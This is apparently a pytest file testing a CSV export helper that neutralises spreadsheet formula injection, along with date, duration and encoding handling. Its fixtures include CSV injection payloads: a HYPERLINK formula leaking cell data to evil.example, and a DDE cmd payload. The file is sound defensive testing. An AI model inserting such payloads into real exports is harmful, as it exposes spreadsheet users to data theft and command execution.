"""CSV cells and tables: formula injection neutralised in text, never in numbers; dates,
durations, the byte-order mark and the line ends."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tickets.reports.csvexport import BOM, csv_download, csv_response_rows, hours, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+2",
        "-5",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Printer jams", "", "a=b", "1+1", "e-mail", " =not first", "'quoted"])
def test_other_text_is_left_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-2.5, "-2.5"),
        (Decimal("-0.1"), "-0.1"),
        (42, "42"),
        (None, ""),
        (True, "true"),
        (False, "false"),
        (date(2026, 11, 30), "2026-11-30"),
        (timedelta(hours=2, minutes=5, seconds=30.6), "7531"),
        (timedelta(days=-1), "-86400"),
    ],
)
def test_numbers_dates_and_durations(value, cell):
    assert safe_cell(value) == cell


def test_an_aware_datetime_is_iso_in_the_sites_time_zone_with_its_offset(settings):
    settings.TIME_ZONE = "Europe/Paris"
    assert safe_cell(datetime(2026, 11, 30, 8, 15, 42, 999, tzinfo=UTC)) == "2026-11-30T09:15:42+01:00"


def test_hours_have_one_decimal():
    assert hours(timedelta(minutes=100)) == 1.7
    assert hours(None) is None


def test_a_table_is_utf8_csv_with_a_bom_crlf_and_every_cell_made_safe():
    lines = list(
        csv_response_rows(
            ["Subject", "=Header", "Count"],
            [["Écran, \"noir\"", "=1+1", -3], ["line\nbreak", None, 4]],
        )
    )
    assert len(lines) == 3
    assert lines[0] == BOM + "Subject,'=Header,Count\r\n"
    assert all(line.endswith("\r\n") for line in lines)
    text = "".join(lines)
    assert text.count(BOM) == 1
    parsed = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))
    assert parsed == [
        ["Subject", "'=Header", "Count"],
        ['Écran, "noir"', "'=1+1", "-3"],
        ["line\nbreak", "", "4"],
    ]


def test_the_rows_are_read_one_at_a_time():
    read = []

    def rows():
        for n in range(3):
            read.append(n)
            yield [n]

    lines = csv_response_rows(["N"], rows())
    next(lines)
    assert read == []
    next(lines)
    assert read == [0]


def test_a_download_is_a_streamed_attachment():
    response = csv_download("all-tickets.csv", ["N"], [[1], [2]])
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="all-tickets.csv"'
    assert b"".join(response.streaming_content).decode() == BOM + "N\r\n1\r\n2\r\n"


@given(st.text())
def test_no_text_cell_starts_with_a_formula_character(text):
    cell = safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.removeprefix("'") == text or cell == text
